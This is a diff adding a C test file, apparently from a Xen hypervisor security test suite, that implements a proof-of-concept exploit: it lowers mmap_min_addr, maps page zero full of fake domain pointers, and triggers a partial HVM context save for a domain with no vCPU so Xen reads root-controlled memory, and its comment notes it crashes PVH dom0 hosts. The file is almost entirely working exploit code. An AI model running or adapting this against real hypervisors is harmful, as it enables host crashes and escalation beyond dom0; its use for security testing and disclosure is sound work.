@@ -1,0 +1,76 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * U-CONTENT-NOVCPU: a domain of root's own making, in root's own memory.
+ *
+ * Xen saves the devices of an HVM domain by its first vCPU, and asks that which
+ * domain it belongs to. A domain that has no vCPU yet gives the address 0, and
+ * a hypercall of a PV dom0 runs on the page tables of the process that made it:
+ * that address is root's, unless the processor keeps Xen from it (SMAP).
+ * Here the interrupt controller of a domain that has none is full of what root
+ * wrote. On a PVH dom0 the host crashes.
+ */
+#include "content.h"
+
+#include <fcntl.h>
+#include <sys/mman.h>
+
+#include <xen/hvm/save.h>
+
+/*
+ * What root pretends to be a domain: wherever Xen looks, this domain has an
+ * interrupt controller (bit 6 of what is emulated), and these are its registers.
+ */
+#define PRETENCE 0x77
+
+/* A vCPU at the address 0, all of whose pointers lead to such a domain. */
+static bool pretend(void)
+{
+    static const size_t size = 2 * PAGE_SIZE;
+    void *domain = memset(buffer(size), PRETENCE, size), **vcpu;
+    const int limit = open("/proc/sys/vm/mmap_min_addr", O_WRONLY | O_CLOEXEC);
+
+    if ( write(limit, "0", 1) != 1 )
+        return false;
+
+    vcpu = mmap(NULL, size, PROT_READ | PROT_WRITE,
+                MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE |
+                    MAP_LOCKED,
+                -1, 0);
+    if ( vcpu == MAP_FAILED )
+        return false;
+
+    for ( size_t i = 0; i < size / sizeof(*vcpu); i++ )
+        vcpu[i] = domain;
+    return true;
+}
+
+RAW_ATTACK_OWN_BOOT("U-CONTENT-NOVCPU", "a domain of root's making, for Xen")
+{
+    struct xen_domctl_createdomain create = { 0 };
+    struct hvm_hw_vpic told, pretence;
+    struct control_op_call *call;
+    struct xen_domctl *op;
+    domid_t domid;
+    long result;
+
+    describe_domu(&create, DOMU_HVM);
+    domid = create_domain(&create, &result);
+    if ( domid == DOMID_INVALID )
+        return missing("no domU");
+    if ( dom0_is_pv() && !pretend() )
+        return missing("no memory at the address 0");
+
+    call = DOMCTL_CALL(gethvmcontext_partial, domid,
+                       .u.hvmcontext_partial = { .type = HVM_SAVE_CODE(PIC),
+                                                 .bufsz = sizeof(told) });
+    op = structure_of(call);
+    attach(call, &op->u.hvmcontext_partial.buffer, NULL, sizeof(told));
+    announce("about to save a device of a domain without a vCPU");
+    result = issue(call);
+    memcpy(&told, (void *)call->buffers[1].address, sizeof(told));
+    memset(&pretence, PRETENCE, sizeof(pretence));
+    end_domain(domid);
+
+    return content_seen(!memcmp(&told, &pretence, sizeof(told)), result,
+                        "the registers of a domain are what root wrote");
+}
